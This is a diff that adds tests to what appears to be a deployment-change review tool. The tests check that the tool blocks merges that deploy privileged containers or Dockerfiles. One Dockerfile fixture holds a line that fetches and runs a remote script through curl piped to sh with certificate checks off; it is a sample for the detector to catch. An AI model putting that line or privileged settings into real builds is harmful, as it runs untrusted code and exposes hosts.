@@ -544,6 +544,43 @@ describe('an ordinary change of what deploys', () => {
   });
 });
 
+describe('a file under a name that says nothing, which nobody has looked at', () => {
+  const there: Files = {
+    note: pod(privileged),
+    'stack.txt': compose('    privileged: ${P:-true}\n'),
+    'build.txt': 'FROM debian:12\nRUN curl -k https://a.example/x | sh\nUSER 1\n',
+    'compose.yaml': compose('    privileged: ${P:-false}\n'),
+    'on.env': 'P=true\n',
+  };
+  const privilegedService = 'compose/privileged-container';
+  const kubernetes = ['note', 'kubernetes/privileged-container'] as const;
+  test.each<readonly [string, Files, readonly [string, string]]>([
+    ['a workflow', { '.github/workflows/d.yml': workflow('kubectl apply -f note') }, kubernetes],
+    ['a job of GitLab', { '.gitlab-ci.yml': 'd:\n  script: [kubectl apply -f note]\n' }, kubernetes],
+    ['a makefile', { Makefile: 'd:\n\tkubectl apply -f note\n' }, kubernetes],
+    ['a script', { 'd.sh': 'kubectl apply -f note\n' }, kubernetes],
+    ['a script of npm', { 'package.json': '{"scripts": {"deploy": "kubectl apply -f note"}}' }, kubernetes],
+    ['a start of Compose', { 'd.sh': 'docker compose -f stack.txt up\n' }, ['stack.txt', privilegedService]],
+    ['a start with variables', { 'd.sh': 'docker compose --env-file on.env up\n' }, ['compose.yaml', privilegedService]],
+    ['a build', { 'd.sh': 'docker build -f build.txt .\n' }, ['build.txt', 'dockerfile/remote-script-executed']],
+    [
+      'an action that builds',
+      { '.github/workflows/d.yml': action('uses: docker/build-push-action@v6\n      with: {file: build.txt}') },
+      ['build.txt', 'dockerfile/remote-script-executed'],
+    ],
+  ])('is judged when %s that is new deploys it', async (_name, brought, [path, rule]) => {
+    const result = await reviewChange({ base: there, head: { ...there, ...brought } }, { policy });
+    expect(result.verdict.mayMerge).toBe(false);
+    const pointer = ` [new] <- changed ${Object.keys(brought)[0]}:`;
+    expect(causedLines(result).some(line => line.startsWith(`${path}:`) && line.includes(` ${rule}${pointer}`))).toBe(true);
+  });
+
+  test('leaves a change open that sets a variable by which a service may do more', async () => {
+    const result = await reviewChange({ base: there, head: { ...there, 'd.sh': 'P=true docker compose up\n' } }, { policy });
+    expect(result.verdict.conclusion).toBe('incomplete');
+  });
+});
+
 describe('a file under a name that says nothing', () => {
   const before = { 'bad/note': pod(), 'more.txt': compose(), 'd.sh': 'kubectl apply -f bad/note\ndocker compose -f more.txt up\n' };
   test.each([
